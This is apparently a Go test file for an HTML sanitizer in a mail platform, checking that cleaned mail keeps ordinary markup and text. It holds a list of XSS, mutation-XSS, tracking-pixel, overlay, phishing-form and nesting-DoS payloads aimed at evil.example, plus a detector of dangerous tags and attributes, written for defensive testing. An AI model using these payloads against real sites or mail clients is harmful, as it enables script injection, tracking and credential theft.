package safehtml_test

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"hearth/internal/platform/letter/safehtml"
)

// attacks try to run, load, cover or escape. Each holds the word "words", which stays readable unless it is listed as silent.
var attacks = []string{
	`<script>alert(1)</script>words`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>words`,
	`<img src=x onerror=alert(1)>words`,
	`<img src="https://evil.example/pixel.gif" width=1 height=1>words`,
	`<img src="//evil.example/pixel.gif">words`,
	`<img srcset="https://evil.example/a 2x" src="cid:none">words`,
	`<a href="javascript:alert(1)">words</a>`,
	`<a href=" jav&#x09;ascript:alert(1)">words</a>`,
	"<a href=\"java\nscript:alert(1)\">words</a>",
	`<a href="data:text/html,<script>alert(1)</script>">words</a>`,
	`<a href="vbscript:x">words</a>`,
	`<a href="//evil.example">words</a>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">words</div>`,
	`<style>@import url(https://evil.example/x.css);body{display:none}</style>words`,
	`<style><!--</style><script>alert(1)</script>-->words`,
	`<link rel=stylesheet href=https://evil.example/x.css>words`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">words`,
	`<base href="https://evil.example/">words`,
	`<iframe src="https://evil.example"></iframe>words`,
	`<object data="https://evil.example/x.swf"></object>words`,
	`<embed src="https://evil.example/x.swf">words`,
	`<svg onload=alert(1)><a xlink:href="javascript:alert(1)"></a></svg>words`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>words`,
	`<form action="https://evil.example"><input name=password><button>words</button></form>`,
	`<body background="https://evil.example/x.gif" onload=alert(1)>words</body>`,
	`<table background="https://evil.example/x.gif"><tr><td background="https://evil.example/y.gif">words</table>`,
	`<video src="https://evil.example/x.mp4" autoplay></video>words`,
	`<input type=image src="https://evil.example/x.gif">words`,
	`<div id="app" class="fixed inset-0" name="x">words</div>`,
	`</div></main></body></html><h1>words`,
	`</td></tr></table></section>words`,
	`<a href="https://example.org" target="_self" rel="opener">words</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">words`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>words`,
	`<textarea><img src=x onerror=alert(1)></textarea>words`,
	`<p title="&quot;&gt;&lt;script&gt;">words</p>`,
	`<font face="x" color="red">words</font>`,
	`<plaintext>words`,
	`<details open ontoggle=alert(1)>words</details>`,
	`<bgsound src="https://evil.example/x.wav">words`,
	`<audio src="https://evil.example/x.wav"></audio>words`,
	`<a href="https://example.org/&quot;onmouseover=alert(1)">words</a>`,
	strings.Repeat("<div>", 5000) + "words",
	strings.Repeat("</div>", 5000) + "words",
	strings.Repeat("<table><tr><td>", 500) + "words",
}

// Nothing of an attack is left: what is returned is read again, by the parser of HTML and not by the one under test, and held against what may be
// there.
func TestNothingRunsLoadsOrEscapes(t *testing.T) {
	t.Parallel()
	for _, a := range attacks {
		got := safehtml.Clean(a, safehtml.Options{}).HTML
		for _, fault := range faults(t, got) {
			t.Errorf("%.120q: %s in %.200q", a, fault, got)
		}
		if !strings.Contains(got, "words") && !strings.Contains(a, "<plaintext") && !strings.Contains(a, "<style><!--") {
			t.Errorf("%.120q: the words are gone: %.200q", a, got)
		}
		if unclosed := strings.Count(got, "<div") - strings.Count(got, "</div"); unclosed != 0 {
			t.Errorf("%.120q: %d more elements begin than end", a, unclosed)
		}
	}
}

// What was made fit to be shown stays as it is when it is cleaned again.
func TestCleaningAgainChangesNothing(t *testing.T) {
	t.Parallel()
	for _, a := range append(slices.Clone(attacks), `<img src=http://a.test/c alt=x> <a href="http://a test/c?x=ü&amp">`, "<p>\u00a0x\r\ny\x00z</p>\u00a0", `<a href="HTTP://A.test/%zz">x`,
		`<a href="mailto:a@b?subject=ü x">x`, `<td dir="LTR ">`, `<a>x</a><pre>`+"\n\nx</pre>", `<span>x</span><p>a<p>b<table><a href=//x>t`, `<img src="data:image/png;base64,iVBORw0 KGgo=">`,
		`<img src="data:image/png;base64,none">`, `<a href="http://x/&quot;'<>">y</a>`, `<a href="http://[::1%25x]/">y</a>`, `<a href="tel:+1 2">`, `&#0;&#x80;&amp;lt;&notit;`, `<b`, `</`, `<!`, `<img src=data:,x>`) {
		for _, o := range []safehtml.Options{{}, {Remote: true}} {
			once := safehtml.Clean(a, o).HTML
			if twice := safehtml.Clean(once, o).HTML; twice != once {
				t.Errorf("%.120q: once %.200q, twice %.200q", a, once, twice)
			}
		}
	}
}

// What faults must find, or the test above finds nothing.
func TestTheCheckOfAttacksSeesThem(t *testing.T) {
	t.Parallel()
	for _, a := range []string{
		`<script>x</script>`, `<img src=x onerror=y>`, `<img src="https://evil.example/x">`, `<a href="javascript:x">w</a>`, `<p style="position:fixed">w</p>`,
		`</div>w`, `<iframe></iframe>`, `<a href="https://example.org">w</a>`, `<p id=x>w</p>`, `<div>w`,
	} {
		if len(faults(t, a)) == 0 {
			t.Errorf("nothing is found in %s", a)
		}
	}
}

var allowed = map[string]string{"href": "a", "rel": "a", "target": "a", "src": "img", "alt": "img", "class": "span", "colspan": "td th", "rowspan": "td th"}

// faults names what may not be in HTML that is shown.
func faults(t *testing.T, s string) (found []string) {
	t.Helper()
	if strings.Contains(strings.ToLower(s), "evil.example/") && strings.Contains(s, "src=") {
		found = append(found, "an address to load from")
	}
	z, depth := html.NewTokenizer(strings.NewReader(s)), 0
	for {
		switch z.Next() {
		case html.ErrorToken:
			if depth != 0 {
				found = append(found, "an element that is not closed")
			}
			return found
		case html.EndTagToken:
			if depth--; depth < 0 {
				return append(found, "an end without a beginning")
			}
		case html.StartTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "link", "meta", "base", "body", "video", "audio":
				found = append(found, "element "+tok.Data)
			case "br", "hr", "img":
				depth--
			}
			depth++
			found = append(found, badAttributes(tok)...)
		}
	}
}

func badAttributes(tok html.Token) (found []string) {
	rel := ""
	for _, a := range tok.Attr {
		if a.Key == "rel" {
			rel = a.Val
		}
		if a.Key != "dir" && !strings.Contains(" "+allowed[a.Key]+" ", " "+tok.Data+" ") {
			found = append(found, "attribute "+a.Key)
		}
		if value := strings.ToLower(a.Val); strings.Contains(value, "script:") || strings.HasPrefix(value, "data:text") || strings.Contains(value, "svg+xml") {
			found = append(found, "a value that runs")
		}
	}
	if tok.Data == "a" && len(tok.Attr) > 0 && (!strings.Contains(rel, "noopener") || !strings.Contains(rel, "noreferrer")) {
		found = append(found, "a link that tells where it comes from")
	}
	return found
}

func TestPicturesAreShownAsTheReaderAgreed(t *testing.T) {
	t.Parallel()
	served := func(id string) string {
		if id == "logo@x" {
			return "/files/7?inline"
		}
		return ""
	}
	const mail = `<p>a<img src="cid:logo@x" alt="Logo"><img src="https://far.example/p.gif" alt="Far"><img src="cid:gone"></p>`
	for name, c := range map[string]struct {
		options safehtml.Options
		want    string
		blocked int
	}{
		"before":       {safehtml.Options{}, `<p>a<span class="mail-picture">Logo</span><span class="mail-picture">Far</span><span class="mail-picture"></span></p>`, 1},
		"with parts":   {safehtml.Options{Picture: served}, `<p>a<img src="/files/7?inline" alt="Logo"><span class="mail-picture">Far</span><span class="mail-picture"></span></p>`, 1},
		"with consent": {safehtml.Options{Remote: true}, `<p>a<span class="mail-picture">Logo</span><img src="https://far.example/p.gif" alt="Far" referrerpolicy="no-referrer" loading="lazy"><span class="mail-picture"></span></p>`, 0},
	} {
		got := safehtml.Clean(mail, c.options)
		if got.HTML != c.want || got.Blocked != c.blocked {
			t.Errorf("%s: got %d blocked, %s\nwant %d, %s", name, got.Blocked, got.HTML, c.blocked, c.want)
		}
	}
	const inside = "<img src=\"data:image/png; base64,iVBORw0\n KGgo=\">"
	if got := safehtml.Clean(inside, safehtml.Options{}).HTML; !strings.Contains(got, `src="data:image/png;base64,iVBORw0KGgo="`) {
		t.Errorf("a picture in the mail itself: %s", got)
	}
}

func TestOrdinaryHTMLStays(t *testing.T) {
	t.Parallel()
	const mail = `<html><head><title>T</title></head><body><h1>Hello &amp; welcome</h1><table><tr><td colspan="2">1 &lt; 2</td></tr></table>` +
		`<ul><li>one<li>two</ul><p dir="rtl">text <a href="https://example.org/x?a=1&amp;b=2">link</a></body></html>`
	want := `<h1>Hello &amp; welcome</h1><table><tr><td colspan="2">1 &lt; 2</td></tr></table><ul><li>one<li>two</li></li></ul><p dir="rtl">text ` +
		`<a href="https://example.org/x?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">link</a></p>`
	if got := safehtml.Clean(mail, safehtml.Options{}).HTML; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestHTMLIsReadAsText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`<p>One</p><p>Two<br>Three</p>`:              "One\n\nTwo\nThree",
		`<div>One</div><div>Two</div>`:               "One\nTwo",
		`<style>p{}</style><script>x</script><p>One`: "One",
		`<ul><li>One</li><li>Two</li></ul>`:          "- One\n- Two",
		`A&nbsp;B &lt; &auml;`:                       "A\u00a0B < ä",
		`<b>From:</b> Bo<br><b>Sent:</b> Monday`:     "From: Bo\nSent: Monday",
		`Hi<div>On Monday Bo &lt;<a href="mailto:b@x">b@x</a>&gt; wrote:<br></div><blockquote>Old<br>text</blockquote>`: "Hi\nOn Monday Bo <b@x> wrote:\n> Old\n> text",
		`<a href="https://example.org/form">the form</a>`:                                                               "the form <https://example.org/form>",
		`<a href="https://example.org/">example.org</a>`:                                                                "example.org",
		`<pre>a  b` + "\n" + ` c</pre>`:                                                                                 "a  b\n c",
		"  spread \n over\tlines ":                                                                                      "spread over lines",
		`<head><title>x</title><p>no end of the head`:                                                                   "no end of the head",
		`<blockquote><blockquote>deep</blockquote>less</blockquote>mine`:                                                ">> deep\n> less\nmine",
		`<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>`:                                               "1 2\n3",
	} {
		if got := safehtml.Text(in); got != want {
			t.Errorf("%s: got %q, want %q", in, got, want)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, a := range attacks {
		if len(a) < 1000 {
			f.Add(a)
		}
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := safehtml.Clean(s, safehtml.Options{}).HTML
		if again := safehtml.Clean(got, safehtml.Options{}).HTML; again != got {
			t.Errorf("cleaned again it is %q, not %q", again, got)
		}
		for _, fault := range faults(t, got) {
			if fault != "an address to load from" { // the words may be in the text
				t.Errorf("%s in %q", fault, got)
			}
		}
		safehtml.Text(s)
	})
}
